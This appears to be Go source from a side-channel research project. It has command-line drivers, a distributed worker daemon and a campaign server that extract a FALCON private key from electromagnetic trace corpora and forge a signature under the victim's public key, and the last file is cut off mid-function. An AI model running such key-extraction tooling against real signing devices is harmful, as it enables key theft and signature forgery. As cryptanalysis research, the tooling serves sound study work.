}
