// Command clusterd is the attack-fleet worker daemon: a stateless node
// that computes shard partials for a coordinator (campaignd -fleet, or
// cmd/attack -cluster). It serves POST /task over the CRC-framed
// HTTP/JSON protocol of internal/cluster, resolving corpus names under
// its -root — typically a shared (or replicated) copy of the
// coordinator's store.
//
// Workers hold no campaign state: killing one mid-sweep loses nothing
// but the lease, which the coordinator re-issues to another node. The
// differential suite (and the smoke script's chaos stage) prove the
// final key is byte-identical regardless.
//
// Observability: GET /metrics (Prometheus text), GET /metricsz (JSON
// snapshot), GET /healthz (build identity plus serving tallies), and —
// only with -pprof — net/http/pprof under /debug/pprof/.
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"falcondown/internal/cluster"
	"falcondown/internal/core"
	"falcondown/internal/obs"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:9100", "listen address")
	root := flag.String("root", "", "directory corpus names resolve under (required; created if missing — a diskless worker starts empty and pulls shards from the coordinator's blob service)")
	kernel := flag.String("kernel", "", "CPA execution kernel for tasks that don't name one: scalar (default), blocked, or fixed — results are byte-identical for all three")
	pprofOn := flag.Bool("pprof", false, "mount net/http/pprof under /debug/pprof/ (off by default: profiling endpoints expose process internals)")
	verbose := flag.Bool("v", false, "verbose logging (debug level)")
	quiet := flag.Bool("q", false, "quiet logging (warnings and errors only)")
	flag.Parse()

	logger := obs.NewLogger("clusterd")
	logger.SetLevel(obs.LevelFromFlags(*verbose, *quiet))

	if *root == "" {
		fmt.Fprintln(os.Stderr, "clusterd: -root is required")
		flag.Usage()
		os.Exit(2)
	}
	// A missing root is not an error: a diskless worker owns no replica
	// and fills its root from coordinator shard push, so all it needs is
	// a writable directory.
	if err := os.MkdirAll(*root, 0o755); err != nil {
		logger.Errorf("%v", err)
		os.Exit(1)
	}

	kern, err := core.ParseKernel(*kernel)
	if err != nil {
		fmt.Fprintf(os.Stderr, "clusterd: %v\n", err)
		os.Exit(2)
	}

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		logger.Errorf("%v", err)
		os.Exit(1)
	}
	logger.Infof("serving corpora under %s on %s (kernel %s)", *root, ln.Addr(), kern)
	mux := http.NewServeMux()
	obs.Default().Mount(mux, "clusterd", *pprofOn)
	w := cluster.NewWorker(*root)
	w.Kernel = kern
	mux.Handle("/", w.Handler())
	if *pprofOn {
		logger.Infof("pprof mounted at /debug/pprof/")
	}
	httpSrv := &http.Server{Handler: mux}
	go func() {
		if err := httpSrv.Serve(ln); err != nil && err != http.ErrServerClosed {
			logger.Errorf("%v", err)
			os.Exit(1)
		}
	}()

	// Graceful on SIGTERM/SIGINT; SIGKILL is the node-loss case the
	// coordinator's leases exist for — nothing here needs to survive it.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	<-sig
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	httpSrv.Shutdown(ctx)
	logger.Infof("stopped")
}
