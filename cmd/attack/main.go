// Command attack runs the Falcon-Down key extraction on a trace corpus
// produced by cmd/tracegen, reconstructs the full signing key from the
// victim's public key, and demonstrates the break by forging a signature.
//
// The corpus is streamed from disk — shards are swept a bounded number of
// times and never loaded whole, so corpora far larger than memory work
// unchanged. Both the sharded v2 format and legacy single-file "FDTR"
// captures are accepted; -traces may name a file, a shard glob, or a
// directory of shards.
//
// Robustness:
//
//   - -lenient opens a damaged corpus in degraded mode: chunks that fail
//     their checksum are quarantined (identically on every pass) and the
//     attack runs on what survives, with the loss reported up front.
//   - -resume checkpoints the attack state to a sidecar (<traces>.ckpt)
//     after each completed phase; a killed run restarted with -resume
//     continues from the last completed phase instead of re-sweeping.
//   - a failed recovery prints the partial report — which of the 2·(n/2)
//     values failed and why — rather than a bare error.
//   - -trim/-resync/-winsorize harden the CPA against dirty corpora
//     (glitched, desynchronized or saturated traces from a misbehaving
//     bench): energy outliers are dropped, traces re-aligned by
//     cross-correlation and samples clamped to per-point bands before
//     correlating. The preprocessing plan is derived once and pinned, so
//     -resume stays byte-deterministic.
//
// Exit codes: 0 success, 1 generic failure, 2 malformed corpus,
// 3 recovery failed (traces readable but the key could not be
// established).
//
// Usage:
//
//	attack -traces traces.fdt2 -pub victim.pub -msg "arbitrary text"
//	attack -traces traces.fdt2 -pub victim.pub -resume -lenient
package main

import (
	"errors"
	"flag"
	"fmt"
	"math/bits"
	"net"
	"net/http"
	"os"
	"strings"

	"falcondown/internal/cluster"
	"falcondown/internal/codec"
	"falcondown/internal/core"
	"falcondown/internal/falcon"
	"falcondown/internal/obs"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

// Exit codes for scripted pipelines.
const (
	exitGeneric        = 1
	exitMalformedInput = 2
	exitRecoveryFailed = 3
)

func main() {
	tracePath := flag.String("traces", "traces.fdt2", "trace corpus from tracegen (file, shard glob, or directory)")
	pubPath := flag.String("pub", "victim.pub", "victim public key")
	msg := flag.String("msg", "forged by falcondown", "message to forge a signature for")
	sigOut := flag.String("sig", "forged.sig", "forged signature output")
	lenient := flag.Bool("lenient", false, "tolerate corpus damage: quarantine bad chunks and attack what survives")
	resume := flag.Bool("resume", false, "checkpoint attack phases to a sidecar and resume a killed run from the last completed phase")
	trim := flag.Float64("trim", 0, "drop traces whose RMS energy sits this many robust sigmas from the corpus median (0 = off)")
	resync := flag.Int("resync", 0, "re-align traces by cross-correlation within ± this many samples (0 = off)")
	winsorize := flag.Float64("winsorize", 0, "clamp samples to mean ± this many sigmas per sample point before correlating (0 = off)")
	workers := flag.Int("workers", 0, "parallel attack workers (0 = GOMAXPROCS); recovered key and checkpoints are bit-identical for any value")
	kernel := flag.String("kernel", "", "CPA execution kernel: scalar (default), blocked (tiled batch updates), or fixed (int64 accumulation on quantized corpora); recovered key and checkpoints are bit-identical for all three")
	keyOut := flag.String("key", "", "also dump the recovered (f, g) pair as canonical JSON to this path (byte-comparable with the campaign server's key endpoint)")
	clusterURLs := flag.String("cluster", "", "comma-separated clusterd worker URLs; corpus sweeps fan out to the fleet, falling back to local compute if it dies (result is byte-identical either way)")
	clusterCorpus := flag.String("cluster-corpus", "", "corpus name as the workers resolve it under their -root (default: the -traces path)")
	blobAddr := flag.String("blob-addr", "", "serve this corpus's shards by content digest on this address (enables fleet shard push: a worker with a divergent replica repairs itself, a diskless worker joins cold)")
	crossCheck := flag.Float64("crosscheck", 0, "fraction of fleet tasks double-issued to two workers and compared bit-for-bit; a node contradicting the recomputed truth is quarantined (0 = off, 1 = every task)")
	metricsAddr := flag.String("metrics-addr", "", "serve GET /metrics (Prometheus text) and /metricsz (JSON) on this address for the duration of the run")
	obsJSON := flag.String("obs-json", "", "write an end-of-run flight record (metric snapshot + build identity) to this path, on success or failure")
	pprofOn := flag.Bool("pprof", false, "with -metrics-addr: also mount net/http/pprof under /debug/pprof/")
	verbose := flag.Bool("v", false, "verbose logging (debug level)")
	quiet := flag.Bool("q", false, "quiet logging (warnings and errors only)")
	flag.Parse()

	logger := obs.NewLogger("attack")
	logger.SetLevel(obs.LevelFromFlags(*verbose, *quiet))

	// exit writes the flight record (if asked for) before terminating —
	// os.Exit skips defers, and a failed recovery's metrics are exactly
	// the ones worth keeping.
	exit := func(code int) {
		if *obsJSON != "" {
			if err := obs.Default().WriteFlightRecord("attack", *obsJSON); err != nil {
				logger.Warnf("flight record: %v", err)
			} else {
				logger.Infof("flight record -> %s", *obsJSON)
			}
		}
		os.Exit(code)
	}

	if *metricsAddr != "" {
		ln, err := net.Listen("tcp", *metricsAddr)
		if err != nil {
			fmt.Fprintln(os.Stderr, "attack: -metrics-addr:", err)
			exit(exitGeneric)
		}
		mux := http.NewServeMux()
		obs.Default().Mount(mux, "attack", *pprofOn)
		go http.Serve(ln, mux)
		logger.Infof("metrics on http://%s/metrics", ln.Addr())
	}

	w, err := core.ValidateWorkers(*workers)
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack: bad -workers:", err)
		exit(exitGeneric)
	}
	kern, err := core.ParseKernel(*kernel)
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack: bad -kernel:", err)
		exit(exitGeneric)
	}
	cfg := core.Config{
		Robust:  core.RobustConfig{TrimSigmas: *trim, ResyncShift: *resync, Winsorize: *winsorize},
		Workers: w,
		Kernel:  kern,
	}
	var dist core.Distributor
	var coord *cluster.Coordinator
	if *clusterURLs != "" {
		corpus := *clusterCorpus
		if corpus == "" {
			corpus = *tracePath
		}
		opts := cluster.Options{
			Workers:    strings.Split(*clusterURLs, ","),
			Corpus:     corpus,
			CrossCheck: *crossCheck,
			Kernel:     *kernel,
		}
		if *blobAddr != "" {
			url, err := serveBlobs(*blobAddr, *tracePath)
			if err != nil {
				fmt.Fprintln(os.Stderr, "attack: blob service:", err)
				exit(exitGeneric)
			}
			fmt.Printf("serving authoritative shards at %s/blob/\n", url)
			opts.BlobURL = url
		}
		coord = cluster.New(opts)
		dist = coord
	}
	if err := run(*tracePath, *pubPath, *msg, *sigOut, *keyOut, *lenient, *resume, cfg, dist); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		switch {
		case errors.Is(err, tracestore.ErrBadFormat) || errors.Is(err, tracestore.ErrChecksum):
			exit(exitMalformedInput)
		case errors.Is(err, core.ErrImplausibleKey) || errors.Is(err, core.ErrCheckpointMismatch):
			exit(exitRecoveryFailed)
		}
		exit(exitGeneric)
	}
	if coord != nil {
		fmt.Printf("fleet report: %s\n", coord.Report())
		if q := coord.Quarantined(); len(q) > 0 {
			fmt.Printf("quarantined node(s): %s\n", strings.Join(q, ", "))
		}
	}
	exit(0)
}

// serveBlobs opens the corpus a second read-only time, registers its
// shards with a blob service and serves it in the background for the
// fleet; the returned base URL goes into the coordinator's task requests.
func serveBlobs(addr, tracePath string) (string, error) {
	corpus, err := tracestore.Open(tracePath)
	if err != nil {
		return "", err
	}
	blobs := cluster.NewBlobServer()
	if err := blobs.Register(corpus); err != nil {
		return "", err
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", err
	}
	go http.Serve(ln, blobs.Handler())
	return "http://" + ln.Addr().String(), nil
}

func run(tracePath, pubPath, msg, sigOut, keyOut string, lenient, resume bool, cfg core.Config, dist core.Distributor) error {
	var corpus *tracestore.Corpus
	var err error
	if lenient {
		var health *tracestore.CorpusHealth
		corpus, health, err = tracestore.OpenLenient(tracePath)
		if err != nil {
			return err
		}
		fmt.Println(health)
		for _, q := range health.Quarantined {
			fmt.Printf("  quarantined: shard %s chunk %d at offset %d (%d observations): %s\n",
				q.Shard, q.Chunk, q.Offset, q.Observations, q.Reason)
		}
	} else {
		corpus, err = tracestore.Open(tracePath)
		if err != nil {
			if errors.Is(err, tracestore.ErrBadFormat) || errors.Is(err, tracestore.ErrChecksum) {
				return fmt.Errorf("%w (retry with -lenient to quarantine the damage and attack what survives)", err)
			}
			return err
		}
	}
	n := corpus.N()
	fmt.Printf("opened corpus of %d traces of a FALCON-%d victim (%d shard(s))\n",
		corpus.Count(), n, corpus.Shards())

	pb, err := os.ReadFile(pubPath)
	if err != nil {
		return err
	}
	logn := bits.Len(uint(n)) - 1
	h, err := codec.DecodePublicKey(pb, logn)
	if err != nil {
		return err
	}
	params, err := falcon.ParamsForDegree(n)
	if err != nil {
		return err
	}
	pub := &falcon.PublicKey{Params: params, H: h}

	var store core.CheckpointStore
	var sidecar *core.FileCheckpoint
	if resume {
		sidecar = &core.FileCheckpoint{Path: tracePath + ".ckpt"}
		store = sidecar
		if ck, err := sidecar.Load(); err == nil && ck != nil {
			fmt.Printf("resuming from checkpoint: phase %q already complete\n", ck.Stage)
		}
	}

	if cfg.Robust.Enabled() {
		fmt.Printf("dirty-trace hardening on: trim %gσ, resync ±%d, winsorize %gσ\n",
			cfg.Robust.TrimSigmas, cfg.Robust.ResyncShift, cfg.Robust.Winsorize)
	}
	fmt.Println("running streamed divide-and-conquer extend-and-prune extraction...")
	var priv *falcon.PrivateKey
	var report *core.RecoveryReport
	if dist != nil {
		fmt.Println("corpus sweeps distributed over the worker fleet")
		priv, report, err = core.RecoverKeyDistributed(corpus, pub, cfg, store, dist)
	} else {
		priv, report, err = core.RecoverKeyResumable(corpus, pub, cfg, store)
	}
	if err != nil {
		printPartialReport(report)
		return fmt.Errorf("key recovery failed (detected, not silent): %w", err)
	}
	fmt.Printf("key recovered: %d/%d values extracted, weakest prune correlation %.3f, all significant at 99.99%%: %v\n",
		len(report.Values), len(report.Values), report.MinPrune, report.Significant)
	if len(report.Corrected) > 0 {
		fmt.Printf("exponent error-correction repaired value(s) %v\n", report.Corrected)
	}
	if sidecar != nil {
		if err := sidecar.Remove(); err != nil {
			fmt.Fprintf(os.Stderr, "attack: warning: could not remove checkpoint sidecar: %v\n", err)
		}
	}
	if keyOut != "" {
		if err := os.WriteFile(keyOut, core.KeyJSON(report.F, report.G), 0o644); err != nil {
			return err
		}
		fmt.Printf("recovered key (f, g) -> %s\n", keyOut)
	}

	sig, err := priv.Sign([]byte(msg), rng.NewEntropy())
	if err != nil {
		return err
	}
	if err := pub.Verify([]byte(msg), sig); err != nil {
		return fmt.Errorf("forged signature did not verify: %w", err)
	}
	enc, err := sig.Encode(logn, params.SigByteLen)
	if err != nil {
		return err
	}
	if err := os.WriteFile(sigOut, enc, 0o644); err != nil {
		return err
	}
	fmt.Printf("forged a valid signature on %q with the victim's public key -> %s\n", msg, sigOut)
	return nil
}

// printPartialReport shows how far a failed recovery got and which values
// are to blame, so a failed run is actionable (acquire more traces, raise
// the beam, salvage the corpus) rather than opaque.
func printPartialReport(report *core.RecoveryReport) {
	if report == nil {
		return
	}
	fmt.Printf("partial recovery report: %d values extracted, weakest prune correlation %.3f, all significant: %v\n",
		len(report.Values), report.MinPrune, report.Significant)
	if report.CorrectionCapped {
		fmt.Println("  exponent error-correction search was truncated at its candidate cap; more tie families existed than were tried")
	}
	if len(report.Failed) == 0 {
		fmt.Println("  no value failed its statistics; the corpus itself is the prime suspect")
		return
	}
	fmt.Printf("  %d value(s) could not be established:\n", len(report.Failed))
	for _, f := range report.Failed {
		fmt.Printf("    %s\n", f)
	}
}
