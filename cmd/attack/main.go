// Command attack runs the Falcon-Down key extraction on a trace file
// produced by cmd/tracegen, reconstructs the full signing key from the
// victim's public key, and demonstrates the break by forging a signature.
//
// Usage:
//
//	attack -traces traces.fdtr -pub victim.pub -msg "arbitrary text"
package main

import (
	"flag"
	"fmt"
	"math/bits"
	"os"

	"falcondown/internal/codec"
	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

func main() {
	tracePath := flag.String("traces", "traces.fdtr", "trace file from tracegen")
	pubPath := flag.String("pub", "victim.pub", "victim public key")
	msg := flag.String("msg", "forged by falcondown", "message to forge a signature for")
	sigOut := flag.String("sig", "forged.sig", "forged signature output")
	flag.Parse()

	if err := run(*tracePath, *pubPath, *msg, *sigOut); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

func run(tracePath, pubPath, msg, sigOut string) error {
	f, err := os.Open(tracePath)
	if err != nil {
		return err
	}
	defer f.Close()
	n, obs, err := emleak.ReadObservations(f)
	if err != nil {
		return err
	}
	fmt.Printf("loaded %d traces of a FALCON-%d victim\n", len(obs), n)

	pb, err := os.ReadFile(pubPath)
	if err != nil {
		return err
	}
	logn := bits.Len(uint(n)) - 1
	h, err := codec.DecodePublicKey(pb, logn)
	if err != nil {
		return err
	}
	params, err := falcon.ParamsForDegree(n)
	if err != nil {
		return err
	}
	pub := &falcon.PublicKey{Params: params, H: h}

	fmt.Println("running divide-and-conquer extend-and-prune extraction...")
	priv, report, err := core.RecoverKey(obs, pub, core.Config{})
	if err != nil {
		return fmt.Errorf("key recovery failed (detected, not silent): %w", err)
	}
	fmt.Printf("key recovered: %d/%d values extracted, weakest prune correlation %.3f, all significant at 99.99%%: %v\n",
		len(report.Values), len(report.Values), report.MinPrune, report.Significant)

	sig, err := priv.Sign([]byte(msg), rng.NewEntropy())
	if err != nil {
		return err
	}
	if err := pub.Verify([]byte(msg), sig); err != nil {
		return fmt.Errorf("forged signature did not verify: %w", err)
	}
	enc, err := sig.Encode(logn, params.SigByteLen)
	if err != nil {
		return err
	}
	if err := os.WriteFile(sigOut, enc, 0o644); err != nil {
		return err
	}
	fmt.Printf("forged a valid signature on %q with the victim's public key -> %s\n", msg, sigOut)
	return nil
}
