// Command attack runs the Falcon-Down key extraction on a trace corpus
// produced by cmd/tracegen, reconstructs the full signing key from the
// victim's public key, and demonstrates the break by forging a signature.
//
// The corpus is streamed from disk — shards are swept a bounded number of
// times and never loaded whole, so corpora far larger than memory work
// unchanged. Both the sharded v2 format and legacy single-file "FDTR"
// captures are accepted; -traces may name a file, a shard glob, or a
// directory of shards.
//
// Usage:
//
//	attack -traces traces.fdt2 -pub victim.pub -msg "arbitrary text"
package main

import (
	"flag"
	"fmt"
	"math/bits"
	"os"

	"falcondown/internal/codec"
	"falcondown/internal/core"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

func main() {
	tracePath := flag.String("traces", "traces.fdt2", "trace corpus from tracegen (file, shard glob, or directory)")
	pubPath := flag.String("pub", "victim.pub", "victim public key")
	msg := flag.String("msg", "forged by falcondown", "message to forge a signature for")
	sigOut := flag.String("sig", "forged.sig", "forged signature output")
	flag.Parse()

	if err := run(*tracePath, *pubPath, *msg, *sigOut); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

func run(tracePath, pubPath, msg, sigOut string) error {
	corpus, err := tracestore.Open(tracePath)
	if err != nil {
		return err
	}
	n := corpus.N()
	fmt.Printf("opened corpus of %d traces of a FALCON-%d victim (%d shard(s))\n",
		corpus.Count(), n, corpus.Shards())

	pb, err := os.ReadFile(pubPath)
	if err != nil {
		return err
	}
	logn := bits.Len(uint(n)) - 1
	h, err := codec.DecodePublicKey(pb, logn)
	if err != nil {
		return err
	}
	params, err := falcon.ParamsForDegree(n)
	if err != nil {
		return err
	}
	pub := &falcon.PublicKey{Params: params, H: h}

	fmt.Println("running streamed divide-and-conquer extend-and-prune extraction...")
	priv, report, err := core.RecoverKeyFrom(corpus, pub, core.Config{})
	if err != nil {
		return fmt.Errorf("key recovery failed (detected, not silent): %w", err)
	}
	fmt.Printf("key recovered: %d/%d values extracted, weakest prune correlation %.3f, all significant at 99.99%%: %v\n",
		len(report.Values), len(report.Values), report.MinPrune, report.Significant)

	sig, err := priv.Sign([]byte(msg), rng.NewEntropy())
	if err != nil {
		return err
	}
	if err := pub.Verify([]byte(msg), sig); err != nil {
		return fmt.Errorf("forged signature did not verify: %w", err)
	}
	enc, err := sig.Encode(logn, params.SigByteLen)
	if err != nil {
		return err
	}
	if err := os.WriteFile(sigOut, enc, 0o644); err != nil {
		return err
	}
	fmt.Printf("forged a valid signature on %q with the victim's public key -> %s\n", msg, sigOut)
	return nil
}
