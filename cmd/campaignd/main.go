// Command campaignd is the attack-campaign server: a long-running daemon
// that accepts campaign specs over HTTP/JSON, queues them, and drives each
// through the resumable acquisition and checkpointed key-recovery pipeline.
// All campaign state lives under the store directory, so a killed daemon
// restarted over the same store re-adopts every in-flight campaign and
// finishes it with byte-identical artifacts.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"falcondown/internal/campaign"
	"falcondown/internal/cluster"
	"falcondown/internal/core"
	"falcondown/internal/tracestore"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8337", "listen address")
	store := flag.String("store", "", "campaign store directory (required)")
	slots := flag.Int("slots", 1, "campaigns run concurrently")
	queueCap := flag.Int("queue", 64, "max queued campaigns (beyond it: 503)")
	tenantMax := flag.Int("tenant-max", 4, "max active campaigns per tenant (beyond it: 429); <0 = unlimited")
	maxTraces := flag.Int("max-traces", 0, "max traces one campaign may request (0 = unlimited)")
	maxN := flag.Int("max-n", 0, "max FALCON degree one campaign may request (0 = unlimited)")
	fleet := flag.String("fleet", "", "comma-separated clusterd worker URLs; campaigns submitted with distributed=true fan their attack sweeps out to them")
	lease := flag.Duration("fleet-lease", 30*time.Second, "per-task worker lease; an unanswered lease is re-issued to the next node")
	blobURL := flag.String("blob-url", "", "base URL workers use to pull authoritative shards from this server (default http://<addr>); shard push repairs divergent replicas and feeds diskless workers")
	crossCheck := flag.Float64("crosscheck", 0, "fraction of fleet tasks double-issued to distinct workers and compared bit-for-bit; a disagreeing node is quarantined (0 disables, 1 checks everything)")
	diskQuota := flag.Int64("tenant-disk", 0, "max store-directory bytes per tenant (0 = unlimited; beyond it: 429)")
	flag.Parse()

	if *store == "" {
		fmt.Fprintln(os.Stderr, "campaignd: -store is required")
		flag.Usage()
		os.Exit(2)
	}

	cfg := campaign.Config{
		Slots:           *slots,
		QueueCap:        *queueCap,
		TenantMax:       *tenantMax,
		TenantDiskBytes: *diskQuota,
		Limits:          campaign.Limits{MaxTraces: *maxTraces, MaxN: *maxN},
	}
	blobs := cluster.NewBlobServer()
	if *fleet != "" {
		workers := strings.Split(*fleet, ",")
		push := *blobURL
		if push == "" {
			push = "http://" + *addr
		}
		cfg.Distributor = func(corpus string, src *tracestore.Corpus) core.Distributor {
			// One coordinator per campaign: breaker state and fleet counters
			// are per-attack, and a campaign's sweeps are sequential. The
			// campaign corpus is registered with the blob service so a
			// worker with a divergent or missing replica pulls the
			// authoritative shards by content digest instead of failing.
			if err := blobs.Register(src); err != nil {
				log.Printf("campaignd: blob registration for %s failed: %v (workers must hold their own replicas)", corpus, err)
			}
			return cluster.New(cluster.Options{
				Workers:    workers,
				Corpus:     corpus,
				Lease:      *lease,
				BlobURL:    push,
				CrossCheck: *crossCheck,
			})
		}
		log.Printf("campaignd: fleet of %d worker(s): %s (shard push at %s/blob/, crosscheck %g)",
			len(workers), *fleet, push, *crossCheck)
	}

	srv, err := campaign.Open(*store, cfg)
	if err != nil {
		log.Fatalf("campaignd: %v", err)
	}
	adopted := srv.Adopted()
	log.Printf("campaignd: store %s: adopted %d in-flight campaign(s)", *store, len(adopted))
	for _, id := range adopted {
		log.Printf("campaignd: re-adopted %s", id)
	}
	srv.Start()

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		log.Fatalf("campaignd: %v", err)
	}
	log.Printf("campaignd: listening on %s", ln.Addr())
	mux := http.NewServeMux()
	mux.Handle("/blob/", blobs.Handler())
	mux.Handle("/", srv.Handler())
	httpSrv := &http.Server{Handler: mux}
	go func() {
		if err := httpSrv.Serve(ln); err != nil && err != http.ErrServerClosed {
			log.Fatalf("campaignd: %v", err)
		}
	}()

	// SIGTERM/SIGINT stop gracefully: in-flight campaigns halt at their
	// next durable boundary and are re-adopted by the next start. SIGKILL
	// (untrappable) is the crash case the salvage/sidecar machinery covers.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	<-sig
	log.Printf("campaignd: shutting down")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	httpSrv.Shutdown(ctx)
	if err := srv.Stop(ctx); err != nil {
		log.Printf("campaignd: shutdown timed out: %v", err)
		os.Exit(1)
	}
	log.Printf("campaignd: stopped; campaigns are re-adoptable from %s", *store)
}
