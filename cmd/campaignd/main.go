// Command campaignd is the attack-campaign server: a long-running daemon
// that accepts campaign specs over HTTP/JSON, queues them, and drives each
// through the resumable acquisition and checkpointed key-recovery pipeline.
// All campaign state lives under the store directory, so a killed daemon
// restarted over the same store re-adopts every in-flight campaign and
// finishes it with byte-identical artifacts.
//
// Observability: GET /metrics serves the process's obs registry in
// Prometheus text format, GET /metricsz the same snapshot as JSON (what
// campaignctl top renders), and GET /healthz a JSON health summary with
// build identity. -pprof additionally mounts net/http/pprof under
// /debug/pprof/ — opt-in, since profiling endpoints expose heap contents.
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"falcondown/internal/campaign"
	"falcondown/internal/cluster"
	"falcondown/internal/core"
	"falcondown/internal/obs"
	"falcondown/internal/tracestore"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8337", "listen address")
	store := flag.String("store", "", "campaign store directory (required)")
	slots := flag.Int("slots", 1, "campaigns run concurrently")
	queueCap := flag.Int("queue", 64, "max queued campaigns (beyond it: 503)")
	tenantMax := flag.Int("tenant-max", 4, "max active campaigns per tenant (beyond it: 429); <0 = unlimited")
	maxTraces := flag.Int("max-traces", 0, "max traces one campaign may request (0 = unlimited)")
	maxN := flag.Int("max-n", 0, "max FALCON degree one campaign may request (0 = unlimited)")
	fleet := flag.String("fleet", "", "comma-separated clusterd worker URLs; campaigns submitted with distributed=true fan their attack sweeps out to them")
	lease := flag.Duration("fleet-lease", 30*time.Second, "per-task worker lease; an unanswered lease is re-issued to the next node")
	blobURL := flag.String("blob-url", "", "base URL workers use to pull authoritative shards from this server (default http://<addr>); shard push repairs divergent replicas and feeds diskless workers")
	crossCheck := flag.Float64("crosscheck", 0, "fraction of fleet tasks double-issued to distinct workers and compared bit-for-bit; a disagreeing node is quarantined (0 disables, 1 checks everything)")
	diskQuota := flag.Int64("tenant-disk", 0, "max store-directory bytes per tenant (0 = unlimited; beyond it: 429)")
	pprofOn := flag.Bool("pprof", false, "mount net/http/pprof under /debug/pprof/ (off by default: profiling endpoints expose process internals)")
	verbose := flag.Bool("v", false, "verbose logging (debug level)")
	quiet := flag.Bool("q", false, "quiet logging (warnings and errors only)")
	flag.Parse()

	logger := obs.NewLogger("campaignd")
	logger.SetLevel(obs.LevelFromFlags(*verbose, *quiet))

	if *store == "" {
		fmt.Fprintln(os.Stderr, "campaignd: -store is required")
		flag.Usage()
		os.Exit(2)
	}

	cfg := campaign.Config{
		Slots:           *slots,
		QueueCap:        *queueCap,
		TenantMax:       *tenantMax,
		TenantDiskBytes: *diskQuota,
		Limits:          campaign.Limits{MaxTraces: *maxTraces, MaxN: *maxN},
	}
	blobs := cluster.NewBlobServer()
	if *fleet != "" {
		workers := strings.Split(*fleet, ",")
		push := *blobURL
		if push == "" {
			push = "http://" + *addr
		}
		cfg.Distributor = func(corpus string, src *tracestore.Corpus) core.Distributor {
			// One coordinator per campaign: breaker state and fleet counters
			// are per-attack, and a campaign's sweeps are sequential. The
			// campaign corpus is registered with the blob service so a
			// worker with a divergent or missing replica pulls the
			// authoritative shards by content digest instead of failing.
			if err := blobs.Register(src); err != nil {
				logger.With("corpus", corpus).Warnf("blob registration failed: %v (workers must hold their own replicas)", err)
			}
			return cluster.New(cluster.Options{
				Workers:    workers,
				Corpus:     corpus,
				Lease:      *lease,
				BlobURL:    push,
				CrossCheck: *crossCheck,
			})
		}
		cfg.HealthExtra = cluster.FleetHealth
		logger.Infof("fleet of %d worker(s): %s (shard push at %s/blob/, crosscheck %g)",
			len(workers), *fleet, push, *crossCheck)
	}

	srv, err := campaign.Open(*store, cfg)
	if err != nil {
		logger.Errorf("%v", err)
		os.Exit(1)
	}
	adopted := srv.Adopted()
	logger.With("store", *store).Infof("adopted %d in-flight campaign(s)", len(adopted))
	for _, id := range adopted {
		logger.With("campaign", id).Infof("re-adopted %s", id)
	}
	srv.Start()

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		logger.Errorf("%v", err)
		os.Exit(1)
	}
	logger.Infof("listening on %s", ln.Addr())
	mux := http.NewServeMux()
	mux.Handle("/blob/", blobs.Handler())
	obs.Default().Mount(mux, "campaignd", *pprofOn)
	mux.Handle("/", srv.Handler())
	if *pprofOn {
		logger.Infof("pprof mounted at /debug/pprof/")
	}
	httpSrv := &http.Server{Handler: mux}
	go func() {
		if err := httpSrv.Serve(ln); err != nil && err != http.ErrServerClosed {
			logger.Errorf("%v", err)
			os.Exit(1)
		}
	}()

	// SIGTERM/SIGINT stop gracefully: in-flight campaigns halt at their
	// next durable boundary and are re-adopted by the next start. SIGKILL
	// (untrappable) is the crash case the salvage/sidecar machinery covers.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	<-sig
	logger.Infof("shutting down")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	httpSrv.Shutdown(ctx)
	if err := srv.Stop(ctx); err != nil {
		logger.Warnf("shutdown timed out: %v", err)
		os.Exit(1)
	}
	logger.Infof("stopped; campaigns are re-adoptable from %s", *store)
}
