// Command falcon is a small CLI for the FALCON implementation: key
// generation, signing and verification with file-based keys.
//
// Usage:
//
//	falcon keygen -n 512 -priv priv.key -pub pub.key [-seed 1]
//	falcon sign   -priv priv.key -msg file -sig out.sig
//	falcon verify -pub pub.key -msg file -sig out.sig
package main

import (
	"flag"
	"fmt"
	"math/bits"
	"os"

	"falcondown/internal/codec"
	"falcondown/internal/falcon"
	"falcondown/internal/ntru"
	"falcondown/internal/rng"
)

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	var err error
	switch os.Args[1] {
	case "keygen":
		err = keygen(os.Args[2:])
	case "sign":
		err = sign(os.Args[2:])
	case "verify":
		err = verify(os.Args[2:])
	default:
		usage()
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "falcon:", err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, `usage:
  falcon keygen -n 512 -priv priv.key -pub pub.key [-seed N]
  falcon sign   -priv priv.key -msg file -sig out.sig [-seed N]
  falcon verify -pub pub.key -msg file -sig file`)
	os.Exit(2)
}

func rngFor(seed uint64) *rng.Xoshiro {
	if seed == 0 {
		return rng.NewEntropy()
	}
	return rng.New(seed)
}

func keygen(args []string) error {
